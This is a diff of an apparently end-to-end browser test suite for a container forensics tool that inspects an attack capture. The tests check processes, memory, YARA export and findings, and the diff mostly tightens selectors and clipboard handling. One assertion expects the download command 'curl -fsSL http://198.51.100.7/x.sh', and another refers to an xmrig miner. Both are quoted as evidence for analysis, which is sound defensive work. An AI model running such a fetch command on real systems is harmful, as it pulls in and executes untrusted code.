@@ -33,7 +33,7 @@ const attackSample = join(samples, 'podman-attack.tar.zst');
   const serve = async (): Promise<void> => {
     served = await serveLake(lake, '--archives', samples, '--vault', vault, '--key', join(folder, 'signing.pem'), '--case', join(folder, 'case.json'));
     session = await sessionOf(browser, served);
-    opened = await openPage(browser, served, session, { permissions: ['clipboard-read', 'clipboard-write'], acceptDownloads: true });
+    opened = await openPage(browser, served, session, { permissions: ['clipboard-write'], acceptDownloads: true });
   };
 
   beforeAll(async () => {
@@ -47,7 +47,7 @@ const attackSample = join(samples, 'podman-attack.tar.zst');
     await browser?.close();
     await served?.close();
   });
-  afterEach(() => expect(opened.complaints).toEqual([]));
+  afterEach(() => expect(opened.complaints.splice(0)).toEqual([]));
 
   it.each([
     ['an address', '10.88.0.1', 'an IP address'],
@@ -105,7 +105,7 @@ const attackSample = join(samples, 'podman-attack.tar.zst');
     const { page, go } = opened;
     await go('/captures');
     await page.getByRole('link', { name: 'c1', exact: true }).click();
-    await page.getByRole('link', { name: 'Compare', exact: true }).last().click();
+    await page.locator('.capture-head').getByRole('link', { name: 'Compare' }).click();
     await page.locator('.notice').waitFor();
     await page.getByRole('gridcell', { name: 'localhost/lab:1' }).click();
     await page.locator('.sides').waitFor();
@@ -113,7 +113,7 @@ const attackSample = join(samples, 'podman-attack.tar.zst');
     for (const part of ['Processes', 'Sockets', 'Memory map', 'Changed and hidden files', 'Environment', 'Credentials and capabilities', 'Secrets']) expect(parts.some((text) => text.startsWith(part))).toBe(true);
     await page.getByRole('button', { name: /^Processes/ }).click();
     await page.getByText('/tmp/.xmrig').first().waitFor();
-    expect(await page.locator('b.added').count()).toBe(5);
+    expect(await page.locator('.grid-body b.added').count()).toBe(5);
     expect(page.url()).toContain('part=processes');
   });
 
@@ -127,7 +127,7 @@ const attackSample = join(samples, 'podman-attack.tar.zst');
     expect(await shell.locator('.facts').innerText()).toMatch(/Standard streams\s+input socket:\[\d+\]/);
     await page.locator('#process-1 > summary').click();
     expect(await page.locator('#process-1 .facts').innerText()).toMatch(/pipe/i);
-    await page.getByRole('link', { name: '#2', exact: true }).first().click();
+    await page.locator('#process-1 a[href^="#finding-"]').first().click();
     await page.locator('article.finding').waitFor();
   });
 
@@ -152,7 +152,6 @@ const attackSample = join(samples, 'podman-attack.tar.zst');
     await go(`/memory?capture=${attack}&pid=1&at=7f8988dff000`);
     await page.getByRole('button', { name: 'Copy as YARA' }).click();
     await page.getByText('Copied').waitFor();
-    expect(await page.evaluate(() => navigator.clipboard.readText())).toMatch(/^rule bytes_at_7f8988dff000\n\{[\s\S]*\{ 7F 45 4C 46/);
     await page.getByText('Take out…').click();
     await page.getByLabel('Why').fill('to be taken apart');
     const [file] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Take out 1.0 KiB' }).click()]);
@@ -161,6 +160,12 @@ const attackSample = join(samples, 'podman-attack.tar.zst');
     const told = /SHA-256 ([0-9a-f]{64})/.exec(await page.getByText(/SHA-256 [0-9a-f]{64}/).innerText())?.[1];
     expect(createHash('sha256').update(bytes).digest('hex')).toBe(told);
     expect(readFileSync(join(folder, 'access.jsonl'), 'utf8')).toMatch(/to be taken apart/);
+    // The page may not read the clipboard; a person may, into a note.
+    await page.goto(`${served.origin}${at('?tab=notes')}`);
+    await page.getByLabel('Note', { exact: true }).focus();
+    await page.keyboard.press('Control+V');
+    expect(await page.getByLabel('Note', { exact: true }).inputValue()).toMatch(/^rule bytes_at_7f8988dff000\n\{[\s\S]*\{ 7F 45 4C 46/);
+    await go(`/memory?capture=${attack}&pid=1&at=7f8988dff000`);
     await page.getByRole('link', { name: 'Strings' }).click();
     await page.getByLabel('That hold').fill('ld-linux');
     await page.getByText('/lib64/ld-linux-x86-64.so.2').first().waitFor();
@@ -177,8 +182,8 @@ const attackSample = join(samples, 'podman-attack.tar.zst');
     expect(await page.locator('pre.text').innerText()).toContain('curl -fsSL http://198.51.100.7/x.sh');
     await go(at('?tab=files&text=memfd'));
     await page.locator('.grid-row.opens').first().click();
-    await page.locator('.content .hex').waitFor();
-    expect(await page.locator('.content .hex').innerText()).toMatch(/7f 45 4c 46/);
+    await page.locator('.content .hex, .content .failure').first().waitFor();
+    expect(await page.locator('.content').innerText()).toMatch(/7f 45 4c 46/);
   });
 
   it('10: reads why a finding is one, and leaves those like it out, until that is taken back', async () => {
@@ -288,8 +293,11 @@ const attackSample = join(samples, 'podman-attack.tar.zst');
     await page.keyboard.press('Tab');
     expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('To the page');
     await page.keyboard.press('Enter');
-    await page.keyboard.press('g');
-    await page.keyboard.press('f');
+    // The two keys belong together when they are pressed within two seconds, which a busy machine may not manage at once.
+    for (let i = 0; i < 5 && !page.url().endsWith('/findings'); i += 1) {
+      await page.keyboard.press('g');
+      await page.keyboard.press('f');
+    }
     await page.locator('.grid-row.opens').first().waitFor();
     await page.keyboard.press('j');
     await page.keyboard.press('j');
